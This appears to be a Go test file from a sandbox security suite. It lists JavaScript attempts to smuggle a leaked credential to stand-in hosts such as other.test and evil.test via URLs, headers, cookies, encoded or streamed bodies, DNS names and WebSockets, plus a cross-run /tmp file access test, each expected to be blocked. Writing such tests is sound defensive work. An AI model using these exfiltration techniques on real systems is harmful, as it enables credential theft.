package attack

import (
	"context"
	"fmt"
	"strings"

	"github.com/codeforge-mcp/codeforge/e2e/world"
)

// values are attempts of code that has got hold of a credential's value, by whatever road, to send it on.
func values() []Attack {
	const reverse = `const value = "REVERSED_HTTPBIN_TOKEN".split("").reverse().join("");`
	var list []Attack
	add := func(name, code string) {
		list = append(list, Attack{Section: "A", Name: "a value that got out, " + name, Expected: "never arrives", Judge: stuck,
			Code: reverse + code})
	}
	send := func(name, request string) { add(name, `await show(fetch(`+request+`));`) }
	send("in a path", `"https://other.test/x/ok/" + value + "?t=TRIAL"`)
	send("in a query", `"https://other.test/x/ok?t=TRIAL&a=" + value`)
	send("in a query, in base64", `"https://other.test/x/ok?t=TRIAL&a=" + encodeURIComponent(btoa("x" + value))`)
	send("in a header", `"https://other.test/x/ok?t=TRIAL", { headers: { "X-Note": value } }`)
	send("in a header, in hex", `"https://other.test/x/ok?t=TRIAL", { headers: { "X-Note": [...new TextEncoder().encode(value)].map((b) => b.toString(16)).join("") } }`)
	send("in Basic", `"https://other.test/x/ok?t=TRIAL", { headers: { Authorization: "Basic " + btoa("me:" + value) } }`)
	send("in a cookie", `"https://other.test/x/ok?t=TRIAL", { headers: { Cookie: "a=" + value } }`)
	send("in a body", `"https://other.test/x/sink?t=TRIAL", { method: "POST", body: value }`)
	send("in a JSON body, escaped", `"https://other.test/x/sink?t=TRIAL", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"a":"' + [...value].map((c) => "\\u00" + c.charCodeAt(0).toString(16)).join("") + '"}' }`)
	send("in a multipart body", `"https://other.test/x/sink?t=TRIAL", { method: "POST", body: (() => { const f = new FormData(); f.append("a", new Blob(["..." + value + "..."])); return f; })() }`)
	send("in a gzipped body", `"https://other.test/x/sink?t=TRIAL", { method: "POST", headers: { "Content-Encoding": "gzip" }, body: await new Response(new Blob([value]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer() }`)
	send("in a body, one byte at a time", `"https://other.test/x/sink?t=TRIAL", { method: "POST", body: new ReadableStream({ async start(c) { for (const ch of "xx" + value + "yy") { c.enqueue(new TextEncoder().encode(ch)); await new Promise((d) => setTimeout(d, 1)); } c.close(); } }) }`)
	list = append(list, Attack{Section: "A", Name: "a value that got out, in a trailer", Expected: "never arrives", Judge: func(e *Evidence) (string, bool) { return e.brief(), len(e.Arrived) > 0 },
		Code: reverse + `await raw("other.test", "other.test", "POST /x/sink?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\nTrailer: X-Note\r\nConnection: close\r\n\r\n2\r\nok\r\n0\r\nX-Note: " + value + "\r\n\r\n");`})
	// What refuses it may name the host, so the code does not print it.
	const host = `try { const r = await fetch("https://" + value + ".HOST/x/ok?t=TRIAL"); const x = await r.json(); out({ status: r.status, code: x.code }); } catch { out({ error: "no answer" }); }`
	add("as a host of a wildcard API", strings.Replace(host, "HOST", "wild.test", 1))
	add("as a host in no API", strings.Replace(host, "HOST", "evil.test", 1))
	add("as a host under YOLO_MODE", strings.Replace(host, "HOST", "evil.test", 1))
	list[len(list)-1].YOLO = true
	add("as a method", `await raw("other.test", "other.test", value.replace(/[^A-Za-z]/g, "") + value + " /x/ok?t=TRIAL HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n");`)
	add("as the name of a header", `await show(fetch("https://other.test/x/ok?t=TRIAL", { headers: { ["X-" + value]: "1" } }));`)
	add("in a WebSocket message", `const s = new WebSocket("wss://other.test/x/ws?t=TRIAL"); const got = []; await new Promise((d) => { s.onopen = () => s.send("say " + value); s.onmessage = (m) => { got.push(m.data.length); }; s.onclose = (e) => { got.push(e.code); d(); }; s.onerror = () => d(); setTimeout(() => { s.close(); d(); }, 1500); }); out({ status: got.filter((n) => n < 1000).length > 1 ? 200 : 403, text: got.join("|") });`)
	add("in a name that is looked up", `try { out({ status: 200, text: JSON.stringify(await Deno.resolveDns(value.toLowerCase() + ".evil.test", "A")) }); } catch (e) { why(e); }`)
	return append(list, Attack{Section: "B", Name: "an upstream's words in the log", Expected: "no credential", Judge: logged,
		Code: `await show(fetch("https://httpbin.test/x/raw?t=TRIAL&mode=bad-status", auth("HTTPBIN_TOKEN")));`})
}

// stuck: nothing of the trial was asked for outside has the value in it, and the code was told of a failure. That the
// value arrived nowhere is for misplaced to see.
func stuck(e *Evidence) (string, bool) {
	for _, name := range e.World.Upstream.Asked() {
		if where := e.World.Leak(name); where != "" {
			return "ASKED: " + where, false
		}
	}
	ls := e.lines()
	for _, l := range ls {
		if l.Error == "" && l.Status < 400 {
			return "answered: " + e.brief(), false
		}
	}
	return e.brief(), len(ls) > 0
}

// logged: the log line of a broken answer, which quotes the upstream, has no credential in it.
func logged(e *Evidence) (string, bool) {
	if !e.got("HTTPBIN_TOKEN") {
		return "the credential never reached the upstream: " + e.brief(), false
	}
	var own strings.Builder
	for line := range strings.Lines(e.World.Logs()) {
		if strings.Contains(line, e.Result.Receipt.Run) {
			own.WriteString(line)
		}
	}
	if !strings.Contains(own.String(), "malformed") {
		return "the log does not quote the upstream", false
	}
	return searched(e.World, own.String())
}

// neighbours are attempts on another run that is under way.
func neighbours() []Attack {
	return []Attack{{Section: "A", Name: "another run's private file in /tmp", Expected: "denied", Root: true, Do: func(ctx context.Context, w *world.World) (string, bool) {
		trial := mark()
		owner := make(chan error, 1)
		go func() {
			_, err := w.Do(ctx, w.Session(), world.Run{Timeout: 25, Code: fmt.Sprintf(`Deno.writeTextFileSync("/tmp/%[1]s", "private", { mode: 0o600 });
for (let i = 0; i < 400; i++) { try { Deno.statSync("/tmp/%[1]s-done"); break; } catch { await new Promise((d) => setTimeout(d, 50)); } }
Deno.removeSync("/tmp/%[1]s");`, trial)})
			owner <- err
		}()
		e := &Evidence{World: w, Trial: trial}
		e.Result, e.Failed = w.Do(ctx, w.Session(), world.Run{Timeout: 25, Code: strings.ReplaceAll(prelude+`let there = false;
for (let i = 0; i < 400 && !there; i++) { try { Deno.statSync("/tmp/TRIAL"); there = true; } catch { await new Promise((d) => setTimeout(d, 50)); } }
const tries = { read: () => Deno.readTextFileSync("/tmp/TRIAL"), write: () => Deno.writeTextFileSync("/tmp/TRIAL", "mine"), move: () => Deno.renameSync("/tmp/TRIAL", "/tmp/TRIAL-moved"), link: () => Deno.linkSync("/tmp/TRIAL", "/tmp/TRIAL-link") };
if (there) for (const [name, f] of Object.entries(tries)) { try { f(); out({ held: false, seen: name + " worked" }); } catch (e) { out({ held: true, seen: name + ": " + e.name }); } }
Deno.writeTextFileSync("/tmp/TRIAL-done", "");`, "TRIAL", trial)})
		seen, held := verdicts()(e)
		if err := <-owner; err != nil {
			return err.Error(), false
		}
		return seen, held
	}}}
}
